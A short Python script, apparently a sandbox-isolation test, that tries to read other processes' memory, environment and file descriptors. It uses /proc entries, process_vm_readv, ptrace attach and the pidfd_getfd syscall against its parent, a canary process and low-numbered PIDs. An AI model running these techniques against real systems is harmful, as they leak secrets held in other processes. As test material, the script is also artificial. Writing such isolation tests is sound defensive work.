# Reads the memory of its parent, the zygote and the canary: /proc/PID/mem, process_vm_readv, ptrace.
import ctypes
import json
import os

libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


targets = json.load(open("targets.json"))
canary, success = targets["canary"], targets["success"]
for pid in (os.getppid(), canary, *range(1, 12)):
    if pid == os.getpid():
        continue
    for name in ("mem", "environ", "cmdline", "maps", "fd", "root", "cwd"):
        path = f"/proc/{pid}/{name}"
        try:
            print(path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(5000))
        except OSError:
            pass
    kept = ctypes.create_string_buffer(4096)
    local, remote = Piece(ctypes.addressof(kept), 4096), Piece(0x400000, 4096)
    size = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if size > 0:
        print(kept.raw[:size], success)
    if libc.ptrace(16, pid, None, None) == 0:
        print("attached to", pid)
        raise RuntimeError(success)
    try:
        pidfd = os.pidfd_open(pid)
        for number in range(30):
            stolen = libc.syscall(438, pidfd, number, 0)
            if stolen >= 0:
                print("stolen", number, success, os.read(stolen, 1000))
    except OSError:
        pass
